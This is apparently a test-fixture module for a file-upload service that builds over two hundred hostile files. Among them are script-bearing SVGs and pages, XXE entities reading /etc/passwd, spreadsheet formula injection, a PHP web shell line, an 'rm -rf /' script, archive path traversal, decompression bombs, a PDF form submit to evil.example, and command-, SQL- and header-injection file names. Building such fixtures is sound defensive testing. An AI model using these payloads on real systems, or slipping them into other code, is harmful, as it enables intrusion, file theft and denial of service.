import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { gzipBomb, heicOf, jpegOf, pdfOf, pngOf, streamOf, zeros, zipOf } from './containers.ts'

/** A file that somebody uploads to do harm. */
export interface HostileFile {
  /** what is hostile about it, for the name of a test */
  what: string
  /** as the form states it */
  name: string
  type: string
  /** the name is written as RFC 5987 has it */
  encoded: boolean
  bytes: Buffer
}
const SCRIPT = '<script>window.__ran=1;alert(document.domain)</script>'
const EICAR = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
const XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
const laughs = (depth: number): string =>
  `<!DOCTYPE z [<!ENTITY l0 "lol">${Array.from(
    { length: depth },
    (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
  ).join('')}]><z>&l${depth};</z>`
const FORMULAS = [
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1',
  '=HYPERLINK("https://evil.example")',
]
const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const sheet = (inside: string): Buffer =>
  zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    { name: 'xl/worksheets/sheet1.xml', content: inside },
  ])
const nested = (depth: number): Buffer => {
  let inner = zipOf([{ name: 'zeros', content: zeros(4) }])
  for (let n = 0; n < depth; n++)
    inner = zipOf(Array.from({ length: 8 }, (_, at) => ({ name: `${at}.zip`, content: inner })))
  return inner
}

/** Bytes of ASF whose sub-header has no length (CVE-2026-31808 of file-type). */
const asfLoop = (): Buffer =>
  Buffer.concat([
    Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'),
    Buffer.alloc(14),
    Buffer.from('0000000000000000000000000000000000000000', 'hex'),
    Buffer.alloc(64),
  ])

/** What is in a file, and the ends of names under which it is uploaded. */
const active = (): [what: string, bytes: Buffer, ends: string[]][] => [
  [
    'an SVG with a script',
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    ['svg', 'png', 'pdf'],
  ],
  [
    'an SVG with a handler',
    Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>'),
    ['svg', 'jpg'],
  ],
  [
    'an SVG with HTML',
    Buffer.from(`<svg><foreignObject>${SCRIPT}</foreignObject></svg>`),
    ['svg', 'heic'],
  ],
  ['an SVG with an outer entity', Buffer.from(`<?xml version="1.0"?>${XXE}<svg/>`), ['svg']],
  ['a page', Buffer.from(`<!doctype html>${SCRIPT}`), ['html', 'pdf', 'png', 'jpg', 'heic']],
  ['a page after spaces', Buffer.from(`${' '.repeat(2000)}<html>${SCRIPT}`), ['htm', 'pdf']],
  ['a page in UTF-16', Buffer.from(`\ufeff<html>${SCRIPT}`, 'utf16le'), ['html', 'pdf']],
  ['a page in UTF-7', Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'), ['html', 'pdf']],
  [
    'an XHTML page',
    Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
    ['xhtml', 'pdf'],
  ],
  ['a script', Buffer.from('fetch("/api/personal/user")'), ['js', 'mjs', 'pdf']],
  ['a stylesheet with an address', Buffer.from('a{background:url(//evil.example)}'), ['css']],
  ['a server file of PHP', Buffer.from('<?php system($_GET[0]);'), ['php', 'phtml', 'pdf']],
  ['a server file of Java', Buffer.from('<% Runtime.getRuntime(); %>'), ['jsp']],
  ['settings of Apache', Buffer.from('AddType text/html .pdf'), ['htaccess', 'pdf']],
  [
    'an e-mail with a page',
    Buffer.from(`Content-Type: text/html\r\n\r\n${SCRIPT}`),
    ['eml', 'mhtml', 'pdf'],
  ],
  ['a calendar', Buffer.from(`BEGIN:VCALENDAR\nSUMMARY:${SCRIPT}\nEND:VCALENDAR`), ['ics']],
]
const programs = (): [string, Buffer, string[]][] => [
  ['the test virus', Buffer.from(EICAR), ['com', 'txt', 'pdf']],
  ['the test virus in a ZIP', zipOf([{ name: 'eicar.com', content: EICAR }]), ['zip', 'pdf']],
  ['the test virus in a PDF', pdfOf({ after: EICAR }), ['pdf']],
  ['a program of Windows', latin(`MZ${'\0'.repeat(400)}PE`), ['exe', 'scr', 'pdf']],
  ['a program of Linux', latin(`\u007fELF\u0002\u0001\u0001${'\0'.repeat(200)}`), ['so', 'pdf']],
  ['a shell script', Buffer.from('#!/bin/sh\nrm -rf /\n'), ['sh', 'pdf']],
  ['a class of Java', Buffer.from('cafebabe00000034', 'hex'), ['class', 'jar']],
  ['WebAssembly', latin('\0asm\u0001\0\0\0'), ['wasm', 'png']],
  ['a shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), ['lnk', 'pdf']],
  ['Flash', latin(`FWS\u0009${'\0'.repeat(60)}`), ['swf', 'jpg']],
  [
    'an old document with macros',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    ['doc', 'xls', 'pdf'],
  ],
  ['rich text', Buffer.from(String.raw`{\rtf1{\object\objocx}}`), ['rtf', 'pdf']],
  ['PostScript', Buffer.from('%!PS\n(/etc/passwd)(r)file'), ['eps', 'pdf']],
]
const packed = (): [string, Buffer, string[]][] => [
  ['a sheet that unpacks to much', sheet('0'.repeat(8_000_000)), ['xlsx', 'pdf']],
  [
    'a document that unpacks to much',
    zipOf([{ name: 'word/document.xml', content: zeros(8) }]),
    ['docx'],
  ],
  ['nested ZIP files', nested(3), ['zip', 'xlsx', 'pdf']],
  ['a sheet with an outer entity', sheet(XXE), ['xlsx', 'csv']],
  ['a sheet with entities of entities', sheet(laughs(9)), ['xlsx']],
  [
    'a document with macros',
    zipOf([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen()' }]),
    ['docm', 'pdf'],
  ],
  [
    'a ZIP with a way out',
    zipOf([{ name: '../../../../tmp/capstan-hostile', content: 'x' }]),
    ['zip', 'docx'],
  ],
  [
    'a ZIP that states a wrong size',
    zipOf([{ name: 'a', content: 'x', claims: 0xffff_fff0 }]),
    ['zip', 'xlsx'],
  ],
  ['a gzip of zeros', gzipBomb(16), ['gz', 'svgz', 'pdf']],
  [
    'a TAR with a way out',
    Buffer.concat([
      Buffer.from('../../tmp/capstan-hostile'.padEnd(257, '\0')),
      Buffer.from('ustar\u000000'),
      Buffer.alloc(600),
    ]),
    ['tar', 'pdf'],
  ],
  ['seven-zip', Buffer.from('377abcaf271c0004', 'hex'), ['7z', 'pdf']],
  ['an endless ASF', asfLoop(), ['asf', 'wmv', 'pdf', 'png', 'heic']],
]
const texts = (): [string, Buffer, string[]][] => [
  ['XML with an outer entity', Buffer.from(`<?xml version="1.0"?>${XXE}`), ['xml', 'csv', 'eml']],
  [
    'XML with entities of entities',
    Buffer.from(`<?xml version="1.0"?>${laughs(9)}`),
    ['xml', 'csv'],
  ],
  ['XML of great depth', Buffer.from('<a>'.repeat(50_000)), ['xml', 'csv']],
  [
    'a list of OFAC with an entity',
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sdnList><publshInformation><Publish_Date>01/01/2026</Publish_Date></publshInformation><sdnEntry><uid>1</uid><lastName>&e;</lastName><sdnType>Entity</sdnType></sdnEntry></sdnList>`,
    ),
    ['xml'],
  ],
  [
    'a bank statement with an entity',
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>&e;</Id></Stmt></BkToCstmrStmt></Document>`,
    ),
    ['xml'],
  ],
  [
    'formulas',
    Buffer.from(
      `name,amount\n${FORMULAS.map((one) => `"${one.replaceAll('"', '""')}",1`).join('\n')}`,
    ),
    ['csv', 'txt', 'pdf'],
  ],
  [
    'formulas in a statement',
    Buffer.from(
      `date,amount,reference,sender,sender_account,bank_reference\n${FORMULAS.map((one, n) => `2026-11-20,1.00,"${one.replaceAll('"', '""')}","${SCRIPT}",****1,B${n}`).join('\n')}`,
    ),
    ['csv'],
  ],
  [
    'a list with scripts',
    Buffer.from(`1,"${SCRIPT}","individual","SDGT",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- `),
    ['csv'],
  ],
  ['CSV with an open quote', Buffer.from(`"${'a,\n'.repeat(20_000)}`), ['csv']],
  [
    'an e-mail with a script',
    Buffer.from(
      `From: "${SCRIPT}" <a@b.example>\r\nSubject: ${SCRIPT}\r\nMessage-ID: <h@b.example>\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    ),
    ['eml'],
  ],
  [
    'an e-mail of many parts',
    Buffer.from(
      `From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n'.repeat(3000)}`,
    ),
    ['eml'],
  ],
  [
    'an e-mail with a bad address',
    Buffer.from(`From: ${'"a@'.repeat(3000)}\r\nTo: a@b.example,c@d.example\r\n\r\nx`),
    ['eml'],
  ],
  [
    'a NACHA file of long lines',
    Buffer.from(`101 ${'9'.repeat(90)}\n`.repeat(2000)),
    ['ach', 'txt'],
  ],
  ['nothing', Buffer.alloc(0), ['pdf', 'csv', 'xml', 'eml', 'png']],
  ['one byte', Buffer.from('%'), ['pdf', 'csv', 'eml']],
  ['zeros', Buffer.alloc(5000), ['pdf', 'png', 'csv', 'eml']],
  [
    'bytes of no text',
    Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 197) % 256)),
    ['pdf', 'jpg', 'csv', 'eml', 'xml'],
  ],
]
const pdfs = (): [string, Buffer][] => [
  [
    'a PDF with JavaScript',
    pdfOf({ root: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
  ],
  [
    'a PDF with JavaScript by name',
    pdfOf({ root: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>' }),
  ],
  ['a PDF that starts a program', pdfOf({ root: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  [
    'a PDF that sends a form',
    pdfOf({ page: '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>' }),
  ],
  [
    'a PDF that opens an address',
    pdfOf({ root: '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>' }),
  ],
  [
    'a PDF with a file inside',
    pdfOf({
      root: '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>',
      objects: [streamOf('/Type /EmbeddedFile', latin('MZ'))],
    }),
  ],
  [
    'a PDF with a form of XML',
    pdfOf({ root: '/AcroForm << /XFA 4 0 R >>', objects: [streamOf('', Buffer.from(XXE))] }),
  ],
  ['a PDF and a page', Buffer.from(`%PDF-1.7\n<html>${SCRIPT}</html>`)],
  ['a page and a PDF', pdfOf({ before: `<html>${SCRIPT}</html>\n` })],
  ['a PDF and a ZIP', pdfOf({ after: zipOf([{ name: 'index.html', content: SCRIPT }]) })],
  ['a PDF and a script', Buffer.from('%PDF-1.7=1;\n1 0 obj\n<<>>;alert(1)//')],
  ['a PDF and a program of Windows', pdfOf({ after: latin(`MZ${'\0'.repeat(400)}`) })],
  [
    'a PDF whose pages lead to themselves',
    pdfOf({ kids: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
  ],
  [
    'a PDF that states a million pages',
    pdfOf({ kids: '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>' }),
  ],
  [
    'a PDF whose page is one many times',
    pdfOf({ kids: `<< /Type /Pages /Kids [${'3 0 R '.repeat(3000)}] /Count 3000 >>` }),
  ],
  ['a PDF of great depth', pdfOf({ root: `/X ${'['.repeat(20_000)}${']'.repeat(20_000)}` })],
  [
    'a PDF whose stream unpacks to much',
    pdfOf({ objects: [streamOf('/Filter /FlateDecode', deflateSync(zeros(32), { level: 9 }))] }),
  ],
  [
    'a PDF whose objects unpack to much',
    pdfOf({
      objects: [
        streamOf(
          '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode',
          deflateSync(zeros(64), { level: 9 }),
        ),
      ],
    }),
  ],
  [
    'a PDF whose table unpacks to much',
    pdfOf({
      objects: [
        streamOf(
          '/Type /XRef /Size 9 /W [1 2 1] /Filter /FlateDecode',
          deflateSync(zeros(64), { level: 9 }),
        ),
      ],
    }),
  ],
  ['a PDF whose table follows itself', pdfOf({ trailer: '/Prev 9' })],
  [
    'a PDF that is locked',
    pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P -1 >>' }),
  ],
  ['a PDF without an end', pdfOf().subarray(0, 40)],
  [
    'a PDF with a false length',
    pdfOf({ objects: ['<< /Length 99999999 >>\nstream\nx\nendstream'] }),
  ],
  ['a PDF of nothing but its name', Buffer.from('%PDF-')],
]
const pictures = (): [string, Buffer, string][] => [
  [
    'a PNG of two thousand million pixels a side',
    pngOf({ width: 0x7fff_ffff, height: 0x7fff_ffff }),
    'png',
  ],
  [
    'a PNG that unpacks to much',
    pngOf({ width: 60_000, height: 60_000, data: deflateSync(zeros(32), { level: 9 }) }),
    'png',
  ],
  [
    'a small PNG that unpacks to much',
    pngOf({ data: deflateSync(zeros(32), { level: 9 }) }),
    'png',
  ],
  ['a PNG without a size', pngOf({ width: 0, height: 0 }), 'png'],
  ['a PNG with a false sum', pngOf({ spoiled: true }), 'png'],
  ['a PNG with a page in its text', pngOf({ before: [['tEXt', `Comment\0${SCRIPT}`]] }), 'png'],
  [
    'a PNG with a profile that unpacks to much',
    pngOf({
      before: [
        ['iCCP', Buffer.concat([Buffer.from('a\0\0'), deflateSync(zeros(16), { level: 9 })])],
      ],
    }),
    'png',
  ],
  [
    'a PNG of a million frames',
    pngOf({ before: [['acTL', Buffer.from('000f424000000000', 'hex')]] }),
    'png',
  ],
  ['a PNG and a page', pngOf({ after: `<html>${SCRIPT}</html>` }), 'png'],
  ['a PNG and a ZIP', pngOf({ after: zipOf([{ name: 'a.html', content: SCRIPT }]) }), 'png'],
  ['a PNG without its pixels', pngOf().subarray(0, 33), 'png'],
  ['a JPEG with a page in its comment', jpegOf({ comment: `<html>${SCRIPT}` }), 'jpg'],
  ['a JPEG with a page in its EXIF', jpegOf({ exif: `<img src=x onerror=alert(1)>` }), 'jpg'],
  ['a JPEG with PHP in its EXIF', jpegOf({ exif: '<?php system($_GET[0]); ?>' }), 'jpeg'],
  ['a JPEG and a script', jpegOf({ first: latin('*/=alert(1);/*') }), 'jpg'],
  ['a JPEG and a ZIP', jpegOf({ after: zipOf([{ name: 'a.class', content: 'x' }]) }), 'jpg'],
  ['a JPEG and a page', jpegOf({ after: `<html>${SCRIPT}</html>` }), 'jpg'],
  ['a JPEG of the greatest size', jpegOf({ side: 65_535 }), 'jpg'],
  ['a JPEG without its end', jpegOf().subarray(0, 12), 'jpeg'],
  ['a HEIC without a length', heicOf({ size: 0 }), 'heic'],
  ['a HEIC of four gigabytes', heicOf({ size: 0xffff_ffff }), 'heic'],
  ['a HEIC and a page', heicOf({ after: `<html>${SCRIPT}</html>` }), 'heic'],
  [
    'a HEIC whose boxes have no end',
    heicOf({ after: latin('\0\0\0\u0008meta'.repeat(4000)) }),
    'heif',
  ],
  ['a GIF and a script', latin('GIF89a=1;alert(1)//'), 'gif'],
  ['a GIF with the name of a PNG', latin('GIF89a\u0001\0\u0001\0\0\0\0'), 'png'],
  ['a BMP and a script', latin('BM=1;alert(1)//'), 'bmp'],
  ['a WebP', latin('RIFF\u001a\0\0\0WEBPVP8L'), 'webp'],
  ['a TIFF', latin('II*\0\u0008\0\0\0'), 'tiff'],
  ['an icon', latin('\0\0\u0001\0\u0001\0'), 'ico'],
  ['an AVIF', latin('\0\0\0\u0018ftypavif\0\0\0\0mif1'), 'heic'],
  ['a film', latin('\0\0\0\u0018ftypisom\0\0\0\0mp42'), 'heic'],
  ['a PDF with the name of a picture', pdfOf(), 'png'],
  ['a PNG with the name of a document', pngOf(), 'pdf'],
  ['a JPEG with the name of a PNG', jpegOf(), 'png'],
]
/** Names that lead out of a folder, deceive who reads them, or break what prints them. */
const names = [
  '../../../../tmp/capstan-hostile.pdf',
  String.raw`..\..\capstan-hostile.pdf`,
  '/etc/capstan-hostile.pdf',
  String.raw`C:\capstan-hostile.pdf`,
  '%2e%2e%2fcapstan-hostile.pdf',
  '..%c0%afcapstan-hostile.pdf',
  '....//capstan-hostile.pdf',
  '．．／capstan-hostile.pdf',
  'file:///tmp/capstan-hostile.pdf',
  'passport.pdf\0.html',
  'passport.html\0.pdf',
  'passport.html%00.pdf',
  'passport\u202efdp.html.pdf',
  'passport\u202egpj.exe.pdf',
  'passport\u2066fdp\u2069.pdf',
  'pass\u200bport\ufeff.pdf',
  'passport.pdf.',
  'passport.pdf ',
  'passport.pdf.html',
  'passport.html.pdf',
  'passport.php.pdf',
  'passport.pdf;.html',
  'passport.pdf::$DATA',
  'passport.pdf:evil.html',
  '.htaccess',
  '.pdf',
  '..pdf',
  'pdf',
  'CON.pdf',
  'NUL',
  'LPT1.pdf',
  `${'a'.repeat(196)}.pdf`,
  `${'a'.repeat(300)}.pdf`,
  `${'a'.repeat(9000)}.pdf`,
  `${'💣'.repeat(60)}.pdf`,
  '<img src=x onerror=alert(1)>.pdf',
  '"><script>alert(1)</script>.pdf',
  "';alert(1)//.pdf",
  '=cmd|calc!A1.pdf',
  '@SUM(1).pdf',
  '$(touch capstan-hostile).pdf',
  '`touch capstan-hostile`.pdf',
  '| touch capstan-hostile.pdf',
  '--help.pdf',
  '${7*7}{{7*7}}.pdf',
  "a'; drop table stored_file; --.pdf",
  'a\r\nSet-Cookie: a=b.pdf',
  'a\nContent-Type: text/html\n\n.pdf',
  'a"; filename="b.html',
  '%s%n%x.pdf',
  'a\u0000\u0007\u001b[31m.pdf',
  'ﬁle\u0301\u0301\u0301.pdf',
  '\ud83d.pdf',
  '',
  ' ',
]
const types = [
  'application/octet-stream',
  'text/html',
  'image/svg+xml',
  'application/pdf',
  'text/html; charset=utf-7',
  'application/x-httpd-php',
  'multipart/form-data; boundary=x',
  'text/xml',
]

/** A PDF of some megabytes whose stream of objects unpacks to a thousand times as much. */
export function pdfBomb(gigabytes: number): HostileFile {
  const piece = deflateRawSync(zeros(16), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const many = Array.from({ length: gigabytes * 64 }, () => piece)
  const objects = [
    streamOf(
      '/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode',
      Buffer.concat([Buffer.from('78da', 'hex'), ...many]),
    ),
  ]
  const type = 'application/pdf'
  return { what: 'a bomb', name: 'bomb.pdf', type, encoded: false, bytes: pdfOf({ objects }) }
}

/** An interlaced picture of one pixel whose data, under 200 KB, unpacks to 160 MB. */
export function pngBomb(): Buffer {
  const piece = deflateRawSync(zeros(16), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const data = Buffer.concat([
    Buffer.from('78da', 'hex'),
    ...Array.from({ length: 10 }, () => piece),
  ])
  return pngOf({ data, interlaced: true })
}

/** Over two hundred hostile files: contents under their own and under allowed names, and names of allowed contents. */
export function hostileFiles(): HostileFile[] {
  const files: Pick<HostileFile, 'what' | 'name' | 'bytes'>[] = []
  const plain = (what: string): string => what.replaceAll(/\W+/g, '-')
  for (const [what, bytes, ends] of [...active(), ...programs(), ...packed(), ...texts()])
    for (const end of ends) files.push({ what, name: `${plain(what)}.${end}`, bytes })
  for (const [what, bytes] of pdfs()) files.push({ what, name: `${plain(what)}.pdf`, bytes })
  for (const [what, bytes, end] of pictures())
    files.push({ what, name: `${plain(what)}.${end}`, bytes })
  for (const name of names)
    files.push({ what: `a name: ${JSON.stringify(name).slice(0, 60)}`, name, bytes: pdfOf() })
  return files.map((file, n) => ({
    ...file,
    type: types[n % types.length] ?? '',
    encoded: file.what.startsWith('a name') && n % 2 === 0,
  }))
}
